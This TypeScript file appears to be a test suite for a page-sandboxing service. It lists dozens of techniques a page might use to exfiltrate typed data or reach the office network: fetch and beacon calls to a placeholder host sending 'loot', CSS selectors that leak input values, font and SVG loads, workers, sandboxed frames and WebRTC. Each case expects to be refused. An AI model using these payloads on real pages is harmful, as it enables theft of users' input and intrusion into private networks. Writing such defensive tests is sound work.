/** Sending elsewhere what was typed, or reaching the office's network, without leaving the page. */
import type { Area } from '../attack.ts'
import { byMarkup, byScript, CALL, click, loads, refusedBy, shows } from './scripts.ts'

const asScript = (code: string) => `"/say?type=text/javascript&body=" + encodeURIComponent(${JSON.stringify(code)})`
const asBlob = (code: string) => `URL.createObjectURL(new Blob([${JSON.stringify(code)}]))`

/** Starts something in a worker of the service's, or of the page's own writing; elsewhere sees what comes of it. */
const ownWorker = (code: string, from: 'service' | 'blob' = 'service') => {
  const workerCode = `try { Promise.resolve(${code.startsWith('const') ? `(() => { ${code} })()` : code}).catch(() => {}) } catch {} postMessage('begun')`
  return `const w = new Worker(${from === 'blob' ? asBlob(workerCode) : asScript(workerCode)}); return new Promise((r) => { w.onmessage = (e) => setTimeout(r, 400, e.data); w.onerror = () => r('failed'); setTimeout(r, 3000, 'nothing') })`
}

/** The same in a shared worker. */
const sharedWorker = (code: string, from: 'service' | 'blob' = 'service') => {
  const workerCode = `onconnect = (e) => { try { Promise.resolve(${code}).catch(() => {}) } catch {} e.ports[0].postMessage('begun') }`
  return `const w = new SharedWorker(${from === 'blob' ? asBlob(workerCode) : asScript(workerCode)}, String(Math.random())); return new Promise((r) => { w.port.onmessage = (e) => setTimeout(r, 400, e.data); w.onerror = () => r('failed'); setTimeout(r, 3000, 'nothing') })`
}

export const network: Area = {
  title: 'Requests from within the page',
  about:
    'A page that stays where it is can still ask: to send elsewhere what was typed, or to look around the office’s network through us. Each request is judged before it leaves.',
  by: 'signing page',
  guard: ['request'],
  sharesTurns: true,
  attacks: [
    {
      name: 'fetch from this machine',
      script: refusedBy('fetch("http://{elsewhere}/", { mode: "no-cors" })'),
      answers: 'refused',
      guard: ['policy', 'request']
    },
    {
      name: 'fetch from this machine, encrypted',
      script: refusedBy('fetch("https://{elsewhere}/", { mode: "no-cors" })'),
      answers: 'refused',
      guard: ['policy', 'request']
    },
    {
      name: 'fetch from the service under another name',
      script: refusedBy('fetch("http://localhost:{port}/loot", { mode: "no-cors" })'),
      answers: 'refused',
      guard: ['policy', 'request']
    },
    {
      name: 'ask by the old interface',
      script:
        'return new Promise((r) => { const x = new XMLHttpRequest(); x.onload = () => r("granted"); x.onerror = () => r("refused"); x.open("POST", "http://{elsewhere}/"); x.send("loot") })',
      answers: 'refused',
      guard: ['policy', 'request']
    },
    {
      name: 'fetch with a log-in in the address',
      script: refusedBy(
        'new Promise((r, e) => { const i = new Image(); i.onload = r; i.onerror = e; i.src = "https://ana:pw@cdn.example/a.png" })'
      ),
      guard: ['browser'],
      answers: 'refused'
    },
    {
      name: 'load a picture from elsewhere',
      script: loads('img', 'e.src = "http://{elsewhere}/"'),
      answers: 'refused',
      message: 'unencrypted'
    },
    {
      name: 'load a picture from the router',
      script: loads('img', 'e.src = "https://192.168.1.1/logo.png"'),
      guard: ['private'],
      answers: 'refused',
      message: 'private network (192.168.1.1)'
    },
    {
      name: 'load a script from elsewhere',
      script: loads('script', 'e.src = "http://{elsewhere}/"'),
      answers: 'refused',
      message: 'unencrypted'
    },
    {
      name: 'load a part of a script from elsewhere',
      script: refusedBy('import("http://{elsewhere}/")'),
      answers: 'refused',
      message: 'unencrypted'
    },
    {
      name: 'take a style from elsewhere',
      script: loads('link', 'e.rel = "stylesheet"; e.href = "http://{elsewhere}/"'),
      answers: 'refused',
      message: 'unencrypted'
    },
    {
      name: 'take a style from elsewhere by a style',
      script: shows('<style>@import "http://{elsewhere}/";</style>'),
      message: 'unencrypted'
    },
    {
      name: 'take letters from elsewhere',
      script: refusedBy('new FontFace("x", "url(http://{elsewhere}/)").load()'),
      answers: 'refused',
      message: 'unencrypted'
    },
    {
      name: 'say what was typed by a background',
      script: shows('<style>input[value^=a] { background: url(http://{elsewhere}/a) }</style><input value=abc>'),
      message: 'unencrypted'
    },
    {
      name: 'take a drawing from elsewhere',
      script: shows('<svg><image href="http://{elsewhere}/"/><use href="http://{elsewhere}/#a"/></svg>'),
      message: 'unencrypted'
    },
    {
      name: 'play a film from elsewhere',
      script: loads('video', 'e.src = "http://{elsewhere}/"'),
      answers: 'refused',
      message: 'unencrypted'
    },
    {
      name: 'show the picture before a film, and the words under it, from elsewhere',
      script: shows(
        '<video poster="http://{elsewhere}/p" crossorigin><track default kind=captions src="http://{elsewhere}/t"></video>'
      ),
      message: 'unencrypted'
    },
    ...byMarkup('unencrypted', [
      ['load a picture for sharp screens', '<img srcset="http://{elsewhere}/ 1x">'],
      ['load a picture of a choice of them', '<picture><source srcset="http://{elsewhere}/"><img></picture>'],
      ['load a picture as a button', '<input type=image src="http://{elsewhere}/">'],
      ['load a picture behind a table', '<table background="http://{elsewhere}/"><tr><td>x</table>'],
      ['load a picture that may be read', '<img crossorigin src="http://{elsewhere}/">'],
      ['load a picture without saying from where', '<img referrerpolicy=no-referrer src="http://{elsewhere}/">'],
      ['load a picture by an address without a scheme', '<img src="//{elsewhere}/">'],
      ['load a picture by an address in capitals', '<img src="HTTP://{elsewhere}/">'],
      ['load a picture by an address with a line break in it', '<img src="ht&#10;tp://{elsewhere}/">'],
      ['load a picture by an address with backslashes', '<img src="http:\\\\\\\\{elsewhere}\\\\a">'],
      ['play a sound from elsewhere', '<audio preload=auto src="http://{elsewhere}/"></audio>'],
      ['play one of several sounds from elsewhere', '<audio preload=auto><source src="http://{elsewhere}/"></audio>'],
      ['play one of several films from elsewhere', '<video preload=auto><source src="http://{elsewhere}/"></video>'],
      ['mark a list with a picture of elsewhere', '<ul style="list-style-image:url(http://{elsewhere}/)"><li>x</ul>'],
      [
        'draw a border with a picture of elsewhere',
        '<p style="border:9px solid;border-image:url(http://{elsewhere}/) 9">x</p>'
      ],
      ['cut out text with a picture of elsewhere', '<p style="mask-image:url(http://{elsewhere}/)">x</p>'],
      [
        'put a picture of elsewhere before text',
        '<style>p::before { content: url(http://{elsewhere}/) }</style><p>x</p>'
      ],
      ['put a picture of elsewhere in an element’s place', '<p style="content:url(http://{elsewhere}/)">x</p>'],
      [
        'let text flow around a picture of elsewhere',
        '<p style="float:left;shape-outside:url(http://{elsewhere}/)">x</p>'
      ],
      [
        'take one picture of a set from elsewhere',
        '<p style="background:image-set(url(http://{elsewhere}/) 1x)">x</p>'
      ],
      [
        'blend pictures of elsewhere',
        '<p style="background:-webkit-cross-fade(url(http://{elsewhere}/),url(http://{elsewhere}/b),50%)">x</p>'
      ],
      [
        'say it by an animation',
        '<style>@keyframes k { from { background: url(http://{elsewhere}/) } } p { animation: k 9s }</style><p>x</p>'
      ],
      [
        'say how wide the screen is',
        '<style>@media (min-width: 1px) { p { background: url(http://{elsewhere}/) } }</style><p>x</p>'
      ],
      [
        'say what the browser can do',
        '<style>@supports (display: grid) { p { background: url(http://{elsewhere}/) } }</style><p>x</p>'
      ],
      ['take a layer of styles from elsewhere', '<style>@import url("http://{elsewhere}/") layer(a);</style>'],
      [
        'hide an address in a property of its own',
        '<style>p { --a: url(http://{elsewhere}/); background: var(--a) }</style><p>x</p>'
      ],
      [
        'say which letters were typed by letters of elsewhere',
        '<style>@font-face { font-family: a; src: url(http://{elsewhere}/); unicode-range: U+61 } p { font-family: a }</style><p>a</p>'
      ],
      [
        'say by styles which box was ticked',
        '<style>input:checked { content: url(http://{elsewhere}/) } input:checked + p { background: url(http://{elsewhere}/) }</style><input type=checkbox checked><p>x</p>'
      ],
      [
        'say by styles which field is empty',
        '<style>input:placeholder-shown + p { background: url(http://{elsewhere}/) }</style><input placeholder=x><p>x</p>'
      ],
      [
        'take a picture of elsewhere into a drawing’s filter',
        '<svg><filter id=f><feImage href="http://{elsewhere}/"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>'
      ],
      [
        'fill a drawing with a picture of elsewhere',
        '<svg><pattern id=p width=1 height=1><image href="http://{elsewhere}/" width=9 height=9 /></pattern><rect width=9 height=9 fill="url(#p)"/></svg>'
      ],
      [
        'put a picture of elsewhere into a drawing’s page',
        '<svg><foreignObject width=9 height=9><img src="http://{elsewhere}/"></foreignObject></svg>'
      ],
      ['take a style of elsewhere for paper only', '<link rel=stylesheet media=print href="http://{elsewhere}/">'],
      [
        'take a style of elsewhere that could be chosen',
        '<link rel="alternate stylesheet" title=a href="http://{elsewhere}/">'
      ],
      ['have a style fetched ahead', '<link rel=preload as=style href="http://{elsewhere}/">'],
      ['have letters fetched ahead', '<link rel=preload as=font crossorigin href="http://{elsewhere}/">'],
      ['have a script fetched ahead', '<link rel=preload as=script href="http://{elsewhere}/">'],
      ['have part of a script fetched ahead', '<link rel=modulepreload href="http://{elsewhere}/">'],
      ['load a picture in a frame that it wrote itself', '<iframe srcdoc="<img src=http://{elsewhere}/>"></iframe>'],
      [
        'load a picture in a frame that is shut off',
        '<iframe sandbox srcdoc="<img src=http://{elsewhere}/>"></iframe>'
      ],
      [
        'load a picture in a frame without credentials',
        '<iframe credentialless srcdoc="<img src=http://{elsewhere}/>"></iframe>'
      ]
    ]),
    ...byScript('unencrypted', [
      ['load a picture without putting it into the page', 'new Image().src = "http://{elsewhere}/"'],
      [
        'load a picture and wait for it',
        'const i = new Image(); i.src = "http://{elsewhere}/"; i.decode().catch(() => {})'
      ],
      [
        'load a picture by a changed base',
        'document.head.insertAdjacentHTML("beforeend", \'<base href="http://{elsewhere}/">\'); new Image().src = "a.png"'
      ],
      ['load a picture in markup that it writes', 'document.write(\'<img src="http://{elsewhere}/">\')'],
      [
        'load a picture in a fragment',
        'document.body.append(document.createRange().createContextualFragment(\'<img src="http://{elsewhere}/">\'))'
      ],
      [
        'load a picture in a shadow',
        'document.body.attachShadow({ mode: "closed" }).innerHTML = \'<img src="http://{elsewhere}/">\''
      ],
      [
        'load a picture in a template',
        'const t = document.createElement("template"); t.innerHTML = \'<img src="http://{elsewhere}/">\'; document.body.append(t.content.cloneNode(true))'
      ],
      [
        'load a picture from another document of its own',
        'const d = new DOMParser().parseFromString(\'<img src="http://{elsewhere}/">\', "text/html"); document.body.append(d.images[0])'
      ],
      [
        'paint by a rule that it adds',
        'const s = document.createElement("style"); document.head.append(s); s.sheet.insertRule("body { background: url(http://{elsewhere}/) }")'
      ],
      [
        'paint by a sheet that it adopts',
        'const s = new CSSStyleSheet(); s.replaceSync("body { background: url(http://{elsewhere}/) }"); document.adoptedStyleSheets = [s]'
      ],
      ['paint by an element’s own style', 'document.body.style.backgroundImage = "url(http://{elsewhere}/)"'],
      [
        'run a module of elsewhere',
        'const s = document.createElement("script"); s.type = "module"; s.src = "http://{elsewhere}/"; document.head.append(s)'
      ],
      [
        'run a module that takes another from elsewhere',
        'const s = document.createElement("script"); s.type = "module"; s.textContent = \'import "http://{elsewhere}/"\'; document.head.append(s)'
      ],
      [
        'run a script of a drawing from elsewhere',
        'const s = document.createElementNS("http://www.w3.org/2000/svg", "script"); s.setAttribute("href", "http://{elsewhere}/"); document.body.append(s)'
      ],
      [
        'take a style as a module from elsewhere',
        'import("http://{elsewhere}/", { with: { type: "css" } }).catch(() => {})'
      ],
      [
        'add a module of elsewhere to what makes sound',
        'new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule("http://{elsewhere}/").catch(() => {})'
      ],
      ['play a sound without putting it into the page', 'new Audio("http://{elsewhere}/").load()'],
      [
        'load a script from within a worker',
        'new Worker(URL.createObjectURL(new Blob([\'importScripts("http://{elsewhere}/")\'])))'
      ],
      [
        'load a picture when the page is scrolled to it',
        'document.body.insertAdjacentHTML("beforeend", \'<div style="height:9000px"></div><img loading=lazy src="http://{elsewhere}/">\'); scrollTo(0, 99999)'
      ],
      ['load a picture after a message', 'onmessage = () => (new Image().src = "http://{elsewhere}/"); postMessage(1)'],
      [
        'load a picture when it hears of its own change',
        'new MutationObserver(() => (new Image().src = "http://{elsewhere}/")).observe(document.body, { childList: true }); document.body.append("x")'
      ],
      ['load a picture when it is idle', 'requestIdleCallback(() => (new Image().src = "http://{elsewhere}/"))'],
      ['load a picture at the next frame', 'requestAnimationFrame(() => (new Image().src = "http://{elsewhere}/"))']
    ]),
    {
      name: 'name an icon of elsewhere',
      script: shows(
        '<link rel=icon href="http://{elsewhere}/icon.png"><link rel=apple-touch-icon href="http://{elsewhere}/a.png">'
      ),
      guard: ['browser']
    },
    {
      name: 'name a manifest of elsewhere',
      script: shows('<link rel=manifest href="http://{elsewhere}/manifest.json">'),
      guard: ['browser']
    },
    {
      name: 'have something fetched ahead',
      script: shows(
        '<link rel=prefetch href="http://{elsewhere}/1"><link rel=preload as=image href="http://{elsewhere}/2"><link rel=modulepreload href="http://{elsewhere}/3"><link rel=prerender href="http://{elsewhere}/4">',
        500
      ),
      message: 'unencrypted'
    },
    {
      name: 'have a page made ready ahead',
      script:
        'const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ urls: ["http://{elsewhere}/1"], eagerness: "immediate" }], prerender: [{ urls: ["http://{elsewhere}/2"], eagerness: "immediate" }] }); document.head.append(s); await new Promise((r) => setTimeout(r, 500))',
      guard: ['browser']
    },
    {
      name: 'have a page of the service made ready ahead, which would then ask elsewhere',
      script:
        'const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prerender: [{ urls: ["/embedded?script=fetch(%22http://{elsewhere}/%22)"], eagerness: "immediate" }] }); document.head.append(s); await new Promise((r) => setTimeout(r, 600))',
      guard: ['browser']
    },
    {
      name: 'send a last word elsewhere',
      script: 'navigator.sendBeacon("http://{elsewhere}/", "loot"); await new Promise((r) => setTimeout(r, 300))',
      guard: ['policy', 'request']
    },
    {
      name: 'send a last word that outlives the page',
      script: refusedBy(
        'fetch("http://{elsewhere}/", { method: "POST", body: "loot", keepalive: true, mode: "no-cors" })'
      ),
      answers: 'refused',
      guard: ['policy', 'request']
    },
    {
      name: 'send a ping with a link',
      ...click('<a id=go href="#here" ping="http://{elsewhere}/">go</a>'),
      guard: ['policy', 'request']
    },
    {
      name: 'listen to events from elsewhere',
      script:
        'return new Promise((r) => { const e = new EventSource("http://{elsewhere}/"); e.onopen = () => r("granted"); e.onerror = () => { e.close(); r("refused") } })',
      answers: 'refused',
      guard: ['policy', 'request']
    },
    {
      name: 'speak to this machine over a socket',
      script: refusedBy(
        'new Promise((r, e) => { const s = new WebSocket("ws://{elsewhere}/"); s.onopen = r; s.onerror = e })'
      ),
      answers: 'refused',
      guard: ['policy', 'request']
    },
    {
      name: 'speak to this machine over an encrypted socket',
      script: refusedBy(
        'new Promise((r, e) => { const s = new WebSocket("wss://{elsewhere}/"); s.onopen = r; s.onerror = e })'
      ),
      answers: 'refused',
      guard: ['policy', 'request']
    },
    {
      name: 'speak to this machine by the newest protocol',
      script: refusedBy('new WebTransport("https://{elsewhere}/").ready'),
      guard: ['policy'],
      answers: 'refused'
    },
    {
      name: 'speak over an encrypted socket from a worker that pages share',
      script: sharedWorker('new WebSocket("wss://{elsewhere}/")'),
      guard: ['policy'],
      answers: 'begun'
    },
    {
      name: 'speak over a plain socket from a worker that pages share',
      script: sharedWorker('new WebSocket("ws://{elsewhere}/")'),
      guard: ['policy'],
      answers: 'begun'
    },
    {
      name: 'speak by the newest protocol from a worker that pages share',
      script: sharedWorker('new WebTransport("https://{elsewhere}/").ready'),
      guard: ['policy'],
      answers: 'begun'
    },
    {
      name: 'fetch from a worker that pages share',
      script: sharedWorker('fetch("http://{elsewhere}/", { mode: "no-cors" })'),
      guard: ['browser'],
      answers: 'begun'
    },
    {
      name: 'speak over an encrypted socket from a shared worker that it wrote itself',
      script: sharedWorker('new WebSocket("wss://{elsewhere}/")', 'blob'),
      guard: ['policy'],
      answers: 'begun'
    },
    {
      name: 'speak by the newest protocol from a shared worker that it wrote itself',
      script: sharedWorker('new WebTransport("https://{elsewhere}/").ready', 'blob'),
      guard: ['policy'],
      answers: 'begun'
    },
    {
      name: 'speak by the newest protocol from a worker of the service',
      script: ownWorker('new WebTransport("https://{elsewhere}/").ready'),
      guard: ['policy'],
      answers: 'begun'
    },
    {
      name: 'speak by the newest protocol from a worker that it wrote itself',
      script: ownWorker('new WebTransport("https://{elsewhere}/").ready', 'blob'),
      guard: ['policy'],
      answers: 'begun'
    },
    {
      name: 'speak by the newest protocol from a worker within a worker',
      script: ownWorker(
        'const inner = `new WebTransport("https://{elsewhere}/").ready.catch(() => {})`; new Worker(URL.createObjectURL(new Blob([inner])))',
        'blob'
      ),
      guard: ['policy'],
      answers: 'begun'
    },
    {
      name: 'speak by the newest protocol from a frame that it wrote itself',
      script: shows(
        '<iframe srcdoc="<script>new WebTransport(`https://{elsewhere}/`).ready.catch(() => {})</script>"></iframe>',
        500
      ),
      guard: ['policy']
    },
    {
      name: 'run a worker that is data',
      script:
        'return new Promise((r) => { try { const w = new Worker("data:text/javascript,postMessage(1)"); w.onmessage = () => r("granted"); w.onerror = () => r("refused") } catch { r("refused") } setTimeout(r, 800, "refused") })',
      guard: ['policy'],
      answers: 'refused'
    },
    {
      name: 'reach elsewhere from a worker',
      script:
        'const code = `fetch("http://{elsewhere}/", { mode: "no-cors" }).then(() => postMessage("granted"), () => postMessage("refused"))`; const w = new Worker(URL.createObjectURL(new Blob([code]))); return new Promise((r) => { w.onmessage = (e) => r(e.data); w.onerror = () => r("refused") })',
      answers: 'refused',
      guard: ['policy', 'request']
    },
    {
      name: 'run a worker of elsewhere',
      script: refusedBy(
        'new Promise((r, e) => { const w = new Worker("/redirect/302?to=http://{elsewhere}/"); w.onmessage = r; w.onerror = e })'
      ),
      answers: 'refused',
      guard: ['browser']
    },
    {
      name: 'have a policy report what happens here to elsewhere',
      page: '<iframe id=f></iframe>',
      script:
        'document.getElementById("f").src = "/say?h=" + encodeURIComponent("Content-Security-Policy:img-src \'none\'; report-uri http://{elsewhere}/csp") + "&body=" + encodeURIComponent("<img src=/a.png>"); await new Promise((r) => setTimeout(r, 400))'
    },
    {
      name: 'have the answer’s header fetch from elsewhere',
      page: '<iframe id=f></iframe>',
      script:
        'document.getElementById("f").src = "/say?h=" + encodeURIComponent("Link:<http://{elsewhere}/a>; rel=preload; as=image") + "&h=" + encodeURIComponent("Link:<http://{elsewhere}/b.css>; rel=stylesheet"); await new Promise((r) => setTimeout(r, 400))'
    },
    {
      name: 'call another computer, past the requests',
      script:
        'try { new RTCPeerConnection({ iceServers: [{ urls: "turn:{elsewhere}?transport=tcp", username: "a", credential: "b" }], iceTransportPolicy: "relay" }).createDataChannel("x"); return "granted" } catch { return "refused" }',
      guard: ['hold'],
      answers: 'refused'
    },
    {
      name: 'call another computer with what an empty frame has',
      page: '<iframe id=f></iframe>',
      script:
        'try { new (document.getElementById("f").contentWindow.RTCPeerConnection)(); return "granted" } catch { return "refused" }',
      guard: ['hold'],
      answers: 'refused'
    },
    {
      name: 'call another computer from a frame that is shut off',
      script: shows(`<iframe sandbox="allow-scripts" srcdoc="${CALL}"></iframe>`, 700),
      guard: ['hold', 'one process']
    },
    {
      name: 'call another computer from a frame within a frame that is shut off',
      script: shows(`<iframe sandbox="allow-scripts" srcdoc="<iframe srcdoc='${CALL}'></iframe>"></iframe>`, 900),
      guard: ['hold']
    },
    {
      name: 'call another computer from a shut frame within a frame that it wrote itself',
      script: shows(`<iframe srcdoc="<iframe sandbox=allow-scripts srcdoc='${CALL}'></iframe>"></iframe>`, 900),
      guard: ['hold', 'one process']
    },
    {
      name: 'call another computer from a frame without credentials',
      script: shows(`<iframe credentialless srcdoc="${CALL}"></iframe>`, 700),
      guard: ['hold']
    },
    {
      name: 'call another computer from a frame of the service without credentials',
      page: '<iframe id=f credentialless></iframe>',
      script: `document.getElementById("f").src = "/say?body=" + encodeURIComponent(${JSON.stringify(CALL)}); await new Promise((r) => setTimeout(r, 700))`,
      guard: ['hold']
    },
    {
      name: 'call another computer from a frame that its own policy shuts off',
      page: '<iframe id=f></iframe>',
      script: `document.getElementById("f").src = "/say?h=" + encodeURIComponent("Content-Security-Policy:sandbox allow-scripts") + "&body=" + encodeURIComponent(${JSON.stringify(CALL)}); await new Promise((r) => setTimeout(r, 700))`,
      guard: ['hold']
    },
    {
      name: 'call another computer from a shut frame that it has only just made',
      script: `const f = document.createElement("iframe"); f.sandbox = "allow-scripts"; f.srcdoc = ${JSON.stringify(CALL)}; document.body.append(f); await new Promise((r) => setTimeout(r, 700))`,
      guard: ['hold', 'one process']
    },
    {
      name: 'call another computer from a shut frame with an address of the service',
      page: '<iframe id=f sandbox="allow-scripts"></iframe>',
      script: `document.getElementById("f").src = "/say?body=" + encodeURIComponent(${JSON.stringify(CALL)}); await new Promise((r) => setTimeout(r, 700))`,
      guard: ['hold']
    },
    {
      name: 'call another computer from ten shut frames at once',
      script: `for (let i = 0; i < 10; i++) { const f = document.createElement("iframe"); f.sandbox = "allow-scripts"; f.srcdoc = ${JSON.stringify(CALL)}; document.body.append(f) } await new Promise((r) => setTimeout(r, 1200))`,
      guard: ['hold', 'one process']
    }
  ]
}
